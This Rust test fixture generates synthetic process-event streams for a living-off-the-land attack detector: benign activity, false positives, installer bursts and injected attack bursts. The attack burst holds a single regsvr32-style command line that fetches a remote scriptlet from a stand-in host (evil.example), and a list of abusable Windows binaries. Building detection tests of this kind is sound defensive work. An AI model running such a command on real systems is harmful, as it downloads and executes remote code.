//! Synthetic scored streams for the engine tests: a small fleet with everyday false
//! positives under every parent, daily installer bursts, and injectable attack bursts.
#![allow(dead_code)]

use lotl_cluster::{ClusterConfig, ClusterModel, ScoredEvent};
use lotl_events::ProcessEvent;

pub const MIN: i64 = 60_000;
pub const BUCKET: i64 = 15 * MIN;
pub const DAY: i64 = 24 * 60 * MIN;
/// Monday 2026-01-05 00:00 UTC.
pub const T0: i64 = 1_767_571_200_000;

/// SplitMix64: deterministic and dependency-free.
pub struct Rng(u64);
impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    pub fn f(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n
    }
}

pub struct Fleet {
    pub rng: Rng,
    pub next_id: u64,
    pub hosts: Vec<String>,
}

/// Parents and their chance of one false-positive child per 15-minute bucket.
pub const PARENTS: [(&str, f64); 9] = [
    ("explorer.exe", 0.30),
    ("cmd.exe", 0.20),
    ("powershell.exe", 0.25),
    ("svchost.exe", 0.10),
    ("services.exe", 0.05),
    ("winword.exe", 0.04),
    ("outlook.exe", 0.05),
    ("excel.exe", 0.03),
    ("wmiprvse.exe", 0.08),
];

const CHILDREN: [&str; 8] = [
    "rundll32.exe",
    "regsvr32.exe",
    "mshta.exe",
    "certutil.exe",
    "wscript.exe",
    "cscript.exe",
    "bitsadmin.exe",
    "schtasks.exe",
];

impl Fleet {
    pub fn new(seed: u64) -> Fleet {
        Fleet {
            rng: Rng::new(seed),
            next_id: 0,
            hosts: (1..=10).map(|i| format!("ws{i:02}")).collect(),
        }
    }

    #[allow(clippy::too_many_arguments)] // test fixture: every field spelled out at call sites
    pub fn event(
        &mut self,
        t: i64,
        host: &str,
        parent: &str,
        child: &str,
        cmd: &str,
        prediction: u8,
        probability: f32,
    ) -> ScoredEvent {
        self.next_id += 1;
        let mut event = ProcessEvent {
            timestamp_ms: t,
            event_id: format!("ev-{:07}", self.next_id).into(),
            host_name: host.to_owned().into(),
            process_executable: Some(format!(r"C:\Windows\System32\{child}").into()),
            process_command_line: Some(format!("{child} {cmd}").into()),
            parent_name: Some(parent.to_owned().into()),
            user_name: Some(format!("user-{host}").into()),
            ..Default::default()
        };
        event.complete();
        ScoredEvent {
            event,
            prediction,
            probability,
            top_features: vec![("process.name_frequency".into(), probability / 2.0)],
        }
    }

    fn host(&mut self) -> String {
        let i = self.rng.below(self.hosts.len() as u64) as usize;
        self.hosts[i].clone()
    }

    /// Normal activity over `[start, end)`: benign starts, false positives under every
    /// parent, and one installer burst a day under msiexec.exe (many children, most below
    /// the datafeed's probability threshold).
    pub fn normal(&mut self, start: i64, end: i64) -> Vec<ScoredEvent> {
        let mut out = Vec::new();
        let mut b = start;
        while b < end {
            for _ in 0..6 {
                let t = b + self.rng.below(BUCKET as u64) as i64;
                let h = self.host();
                let p = self.rng.f() as f32 * 0.3;
                out.push(self.event(t, &h, "explorer.exe", "notepad.exe", "a.txt", 0, p));
            }
            for (parent, rate) in PARENTS {
                if self.rng.f() < rate {
                    let t = b + self.rng.below(BUCKET as u64) as i64;
                    let h = self.host();
                    let c = CHILDREN[self.rng.below(CHILDREN.len() as u64) as usize];
                    let p = 0.5 + self.rng.f() as f32 * 0.3;
                    out.push(self.event(t, &h, parent, c, "/s benign", 1, p));
                }
            }
            // One installation a day, at a random time of the working day.
            if (b - start) % DAY == 0 {
                let at = b + (8 * 60 + self.rng.below(8 * 60) as i64) * MIN;
                if at < end {
                    out.extend(self.installer(at, 25));
                }
            }
            b += BUCKET;
        }
        out.sort_by_key(|e| e.event.timestamp_ms);
        out
    }

    /// msiexec.exe spawning `n` children within a few minutes, probabilities 0.2–0.65.
    pub fn installer(&mut self, at: i64, n: usize) -> Vec<ScoredEvent> {
        let h = self.host();
        (0..n)
            .map(|i| {
                let t = at + i as i64 * 10_000;
                let p = 0.2 + self.rng.f() as f32 * 0.45;
                let pred = u8::from(p >= 0.5);
                self.event(
                    t,
                    &h,
                    "msiexec.exe",
                    "msiexec.exe",
                    "/V custom action",
                    pred,
                    p,
                )
            })
            .collect()
    }

    /// An attack: `parent` spawns `n` LOLBins with high malicious probability within two
    /// minutes.
    pub fn burst(&mut self, at: i64, host: &str, parent: &str, n: usize) -> Vec<ScoredEvent> {
        (0..n)
            .map(|i| {
                let t = at + i as i64 * 10_000;
                let c = CHILDREN[i % CHILDREN.len()];
                let p = 0.9 + self.rng.f() as f32 * 0.09;
                self.event(
                    t,
                    host,
                    parent,
                    c,
                    "/i:http://evil.example/x.sct scrobj.dll",
                    1,
                    p,
                )
            })
            .collect()
    }
}

pub fn merge(mut a: Vec<ScoredEvent>, b: Vec<ScoredEvent>) -> Vec<ScoredEvent> {
    a.extend(b);
    a.sort_by_key(|e| e.event.timestamp_ms);
    a
}

/// A model fitted on `days` of normal fleet activity before `T0`.
pub fn fitted(fleet: &mut Fleet, days: i64) -> ClusterModel {
    let history = fleet.normal(T0 - days * DAY, T0);
    lotl_cluster::fit_cluster(&history, ClusterConfig::default()).expect("fit")
}
